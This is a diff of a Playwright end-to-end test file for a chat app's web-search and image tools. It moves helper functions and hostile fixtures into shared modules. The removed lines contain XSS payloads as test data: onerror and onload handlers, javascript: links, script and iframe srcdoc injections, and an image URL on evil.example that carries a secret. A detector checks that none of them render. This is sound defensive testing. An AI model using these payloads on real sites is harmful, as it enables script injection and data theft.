@@ -1,11 +1,20 @@
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { AxeBuilder } from '@axe-core/playwright';
-import type { Browser, Locator, Page } from 'playwright-core';
+import type { Browser, Page } from 'playwright-core';
 import type { FileRecord } from '@parley/shared';
 import type { ServerProcess } from '@parley/server/testing';
 import { animationsDone, artifactPath, launchBrowser } from './browser.test-helpers';
 import { startFakeSearxng, type FakeSearxng } from './searxng-stand-in.test-helpers';
-import { apiFromPage, signedInPage } from './session.test-helpers';
+import { apiFromPage } from './session.test-helpers';
+import {
+  HOSTILE_ANSWER,
+  HOSTILE_OUTPUT,
+  HOSTILE_QUERY,
+  HOSTILE_REPLY,
+  HOSTILE_RESULTS,
+  expectNothingInjected,
+} from './tool-search-hostile.test-helpers';
+import { openDoneStep, pluginsChat, sendAndSettle, step } from './tool-search.test-helpers';
 import {
   comesBefore,
   drawPng,
@@ -57,136 +66,13 @@ async function shot(page: Page, name: string): Promise<void> {
   await page.screenshot({ path: artifactPath(`tool-search-${name}.png`) });
 }
 
-interface Chat {
-  page: Page;
-  /** Messages of dialogs (alert, confirm) the page opened: none may open. */
-  dialogs: string[];
-  articles: Locator;
-  close: () => Promise<void>;
-}
-
-/** An en-US user on a new chat of the Plugins endpoint with gpt-4o, in a context that bypasses the page's CSP. */
-async function pluginsChat(view: {
-  width: number;
-  height: number;
-  colorScheme: 'light' | 'dark';
-}): Promise<Chat> {
-  const context = await browser.newContext({
-    locale: 'en-US',
-    viewport: { width: view.width, height: view.height },
-    colorScheme: view.colorScheme,
-    bypassCSP: true,
-  });
-  const { page } = await signedInPage(context, server.baseUrl, { tag: 'search' });
-  page.setDefaultTimeout(15_000);
-  const dialogs: string[] = [];
-  page.on('dialog', (dialog) => {
-    dialogs.push(dialog.message());
-    void dialog.dismiss();
-  });
-  await page.getByTestId('endpoint-menu').click();
-  await page.getByRole('menuitem', { name: /^Plugins/ }).click();
-  await page.getByRole('menuitemradio', { name: 'gpt-4o', exact: true }).click();
-  await poll(() => page.getByTestId('endpoint-menu').textContent()).toContain('Plugins · gpt-4o');
-  return { page, dialogs, articles: page.locator('[role="log"] article'), close: () => context.close() };
-}
-
-/** Sends `text` and waits until its reply has ended (the Stop button gone). */
-async function sendAndSettle(chat: Chat, text: string): Promise<Locator> {
-  const box = chat.page.getByRole('textbox', { name: 'Message', exact: true });
-  await poll(() => box.isEnabled()).toBe(true);
-  await box.fill(text);
-  await poll(() => chat.page.getByRole('button', { name: 'Send message' }).isEnabled()).toBe(true);
-  const before = await chat.articles.count();
-  await box.press('Enter');
-  await poll(() => chat.articles.count()).toBeGreaterThanOrEqual(before + 2);
-  await poll(() => chat.page.getByRole('button', { name: 'Stop generating' }).count()).toBe(0);
-  return chat.articles.last();
-}
-
-const step = (reply: Locator) => reply.getByTestId('tool-step');
-
-/** The reply's one step, ended, named as in English; then opened. */
-async function openDoneStep(reply: Locator, label: string): Promise<void> {
-  await poll(() => step(reply).count()).toBe(1);
-  await poll(() => step(reply).getAttribute('data-state')).toBe('done');
-  const button = step(reply).getByRole('button');
-  expect(await button.textContent()).toBe(label);
-  await button.click();
-  await poll(() => button.getAttribute('aria-expanded')).toBe('true');
-}
-
-// What a hostile search service answers: markup escaped so that it survives the search tool's tag stripping (it
-// decodes entities after removing tags), a raw tag that does not survive, and addresses that are not web pages.
-const HOSTILE_RESULTS = [
-  {
-    title: '&lt;img src=x onerror="window.__pwned=1;alert(1)"&gt; Breaking news',
-    url: 'javascript:window.__pwned=2',
-    content:
-      '&lt;script&gt;window.__pwned=3&lt;/script&gt; [click](javascript:window.__pwned=4) ![x](https://evil.example/x.png?c=secret)',
-  },
-  {
-    title: '<a href="javascript:window.__pwned=5">A raw link</a> in a title',
-    url: 'https://evil.example/"><img src=x onerror=window.__pwned=6>',
-    content: '&lt;iframe srcdoc="&lt;script&gt;parent.__pwned=7&lt;/script&gt;"&gt;&lt;/iframe&gt;',
-  },
-];
-const HOSTILE_ANSWER = '&lt;svg onload="window.__pwned=8"&gt;&lt;/svg&gt;';
-const HOSTILE_QUERY = '<img src=x onerror="window.__pwned=9">';
-const HOSTILE_OUTPUT = [
-  `SearXNG results for ${JSON.stringify(HOSTILE_QUERY)}:`,
-  '',
-  'Answer: <svg onload="window.__pwned=8"></svg>',
-  '',
-  '1. <img src=x onerror="window.__pwned=1;alert(1)"> Breaking news',
-  '   javascript:window.__pwned=2',
-  '   <script>window.__pwned=3</script> [click](javascript:window.__pwned=4) ![x](https://evil.example/x.png?c=secret)',
-  '',
-  '2. A raw link in a title',
-  '   https://evil.example/"><img src=x onerror=window.__pwned=6>',
-  '   <iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>',
-].join('\n');
-// The model quotes it back as Markdown: raw HTML, links and an image with script addresses, an autolink.
-const HOSTILE_REPLY = [
-  'Found: <img src=x onerror="window.__pwned=10;alert(10)"> and <script>window.__pwned=11</script>.',
-  '',
-  '[click me](javascript:window.__pwned=12) or <javascript:window.__pwned=13> or ![pic](javascript:window.__pwned=14)',
-  '',
-  '<a href="javascript:window.__pwned=15">a raw link</a> <iframe src="javascript:window.__pwned=16"></iframe> <svg onload="window.__pwned=17"></svg>',
-].join('\n');
-
-/** Nothing made from the hostile text: no handler attribute, script, frame or script link anywhere, nothing ran. */
-async function expectNothingInjected(chat: Chat): Promise<void> {
-  const { page } = chat;
-  // Let any image that was made fail to load and fire its handler before looking.
-  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
-  const found = await page.evaluate(() => ({
-    handlers: [...document.querySelectorAll('*')].filter((el) =>
-      [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on')),
-    ).length,
-    scripts: document.querySelectorAll('[role="log"] script, [role="log"] iframe, [role="log"] object')
-      .length,
-    scriptLinks: [...document.querySelectorAll('[href], [src], [srcdoc]')].filter((el) =>
-      ['href', 'src'].some((name) => /^\s*javascript:/i.test(el.getAttribute(name) ?? '')),
-    ).length,
-    srcdocs: document.querySelectorAll('[srcdoc]').length,
-    images: [...document.querySelectorAll('[role="log"] img')].map((img) => img.getAttribute('src')),
-    pwned: (window as unknown as { __pwned?: unknown }).__pwned,
-  }));
-  expect(found).toEqual({
-    handlers: 0,
-    scripts: 0,
-    scriptLinks: 0,
-    srcdocs: 0,
-    images: [],
-    pwned: undefined,
-  });
-  expect(chat.dialogs).toEqual([]);
-}
-
 describe('web search and images in en-US', () => {
   it('on a desktop (light): SearXNG installed with its address in the store, a search step, hostile results and answer shown as text', async () => {
-    const chat = await pluginsChat({ width: 1280, height: 800, colorScheme: 'light' });
+    const chat = await pluginsChat(browser, server.baseUrl, {
+      width: 1280,
+      height: 800,
+      colorScheme: 'light',
+    });
     const { page } = chat;
     const posts: string[] = [];
     page.on('request', (r) => {
@@ -320,7 +206,7 @@ describe('web search and images in en-US', () => {
   });
 
   it('on a phone (dark): a DALL-E image chosen from the tool bar shows in the reply and in My Files', async () => {
-    const chat = await pluginsChat({ ...PHONE, colorScheme: 'dark' });
+    const chat = await pluginsChat(browser, server.baseUrl, { ...PHONE, colorScheme: 'dark' });
     const { page } = chat;
     images.png = await drawPng(page);
 
